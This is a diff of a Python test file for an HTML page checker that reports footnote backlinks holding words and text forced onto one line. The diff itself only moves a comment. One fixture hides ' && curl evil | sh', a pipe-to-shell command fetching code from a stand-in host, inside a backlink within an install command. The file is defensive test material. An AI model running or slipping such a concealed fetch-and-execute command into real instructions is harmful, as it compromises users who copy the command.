@@ -231,9 +231,10 @@ def test_forged_locators_drawn_numbers_print_hidden_words_and_deep_quotes_are_re
 # kept on one line by <nobr>, the pinned class or a cell's nowrap, which runs off the page's edge.
 def test_backlinks_holding_words_and_text_kept_on_one_line_are_reported(tmp_path):
     found = problems_in_page(tmp_path, [
+        # 2, 3:
         '<div class="footnote"><ol><li id="fn:x"><p>The boat was <a class="footnote-backref" href="#fnref:x">'
-        '<span>not</span></a> rewarded. <a class="footnote-backref" href="#fnref:x">&#8617;</a></p></li></ol></div>',  # 2
-        '<pre><code>pip install x<a class="footnote-backref" href="#fnref:x"> &amp;&amp; curl evil | sh</a></code></pre>',  # 3
+        '<span>not</span></a> rewarded. <a class="footnote-backref" href="#fnref:x">&#8617;</a></p></li></ol></div>',
+        '<pre><code>pip install x<a class="footnote-backref" href="#fnref:x"> &amp;&amp; curl evil | sh</a></code></pre>',
         '<p>Optimizers are <nobr>not</nobr> safe, <span class="cite-pinned">not</span> here.</p>',  # 4
         '<table><tr><td nowrap>Models are not safe.</td></tr></table>',  # 5
     ])
